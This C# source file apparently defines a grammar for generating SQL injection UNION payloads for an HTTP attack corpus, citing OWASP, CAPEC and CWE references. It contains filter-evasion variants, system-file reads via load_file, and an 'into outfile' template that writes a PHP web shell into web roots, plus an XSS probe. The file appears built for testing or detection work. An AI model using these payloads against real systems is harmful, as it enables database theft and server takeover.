namespace Weir.Http.Corpus.Attacks;

/// <summary>Union queries, sorting and what follows a select.</summary>
/// <remarks>OWASP WSTG-INPV-05 (union exploitation), CAPEC-66, CWE-89.</remarks>
internal static class SqliUnion
{
    public const string Text = """"
        ¶ ---- union ----
        §unionq
        6× «unionword» «selectword» «cols»
        6× «unionword» «selectword» «cols» from «table»
        2× «unionword» «selectword» «cols» from «table» where «cond»
        «unionword» «selectword» «cols» from «table» «limit»
        «unionword»(«selectword»(«num»),«scalarfn»,(«num»))
        «unionword» (select * from «table»)
        «unionword» «selectword» * from (select «num»)a join (select «num»)b«¦ join (select «num»)c»
        «unionword» «selectword» «cols» «into outfile¦into dumpfile» '«/var/www/html/«rand».php¦c:/xampp/htdocs/«rand».php¦/tmp/«rand»»'
        and «num»=«num» «unionword» «selectword» «cols»
        order by «#1-99»
        group by «#1-20»
        group by «ident»,«#1-9» having «cond»
        order by «ident» «asc¦desc»,(select «num» from «table»)
        «order by¦group by» (select 1 union select 2)
        limit «#0-9»,«#1-9» «unionword» «selectword» «cols»
        limit 1,1 procedure analyse(extractvalue(rand(),concat(0x3a,«scalarfn»)),1)
        procedure analyse()
        intersect select «cols» from «table»
        except select «cols» from «table»
        minus select «cols» from «table»
        values(«num»,«num»,«num»)
        «unionword» values row(«num»,«num»)
        «unionword» table «table»
        §unionword
        5× union
        4× union all
        3× UNION
        3× UNION ALL
        union distinct
        «UnIoN¦uNioN aLl¦/*!union*/¦/*!50000union*/ all¦%55nion¦uni/**/on¦UNIunionON¦union/*«letter»*/all¦unioN/**/¦/*!«#10000-60000»UNION*/»
        §selectword
        6× select
        5× SELECT
        «SeLeCt¦sElEcT¦/*!select*/¦/*!50000select*/¦sel/**/ect¦SELselectECT¦select distinct¦select all¦%53elect¦select top 1¦/*!«#10000-60000»SELECT*/¦select@»
        §cols
        5× «nulls»
        5× «numbers»
        4× «colmix»
        *
        «colitem»
        §nulls
        null«commanull*0-12»
        NULL«commabignull*0-12»
        §commanull
        ,null
        §commabignull
        ,NULL
        §numbers
        1,2
        1,2,3
        1,2,3,4
        1,2,3,4,5
        1,2,3,4,5,6
        1,2,3,4,5,6,7,8
        1,2,3,4,5,6,7,8,9,10
        «num»«commanum*0-9»
        «digit»«digit»«digit»«digit»«commanum4*1-9»
        1,«scalarfn»,3
        1,2,«scalarfn»,4
        1,group_concat(«col»),3
        «num»,«num»,«num»#1
        '1','2'«¦,'3'»
        @,@,@
        §commanum
        ,«num»
        §commanum4
        ,«#1000-9999»
        §colmix
        «colitem»,«colitem»
        «colitem»,«colitem»,«colitem»
        «colitem»,«colitem»,«colitem»,«colitem»,«colitem»
        §colitem
        4× «num»
        4× «scalarfn»
        3× null
        3× «col»
        2× «strexp»
        concat(«col»,«hexlit»,«col»)
        concat(«hexlit»,«scalarfn»,«hexlit»)
        concat_ws(«hexlit»,«scalarfn»,«scalarfn»)
        group_concat(«col»)
        group_concat(table_name)
        («query1»)
        «col»||'«:¦~»'||«col»
        «chrseq»||«col»||«chrseq»
        load_file('«unixfile»')
        unhex(hex(«scalarfn»))
        convert(«scalarfn» using latin1)
        cast(«scalarfn» as «char¦varchar¦nvarchar(4000)»)
        @@«sysvar»
        aes_decrypt(aes_encrypt(«scalarfn»,0x71),0x71)
        json_arrayagg(concat_ws(0x3a,table_schema,table_name))
        "<?php «system¦eval»($_GET['«letter»']); ?>"
        '<script>alert(1)</script>'
        """";
}
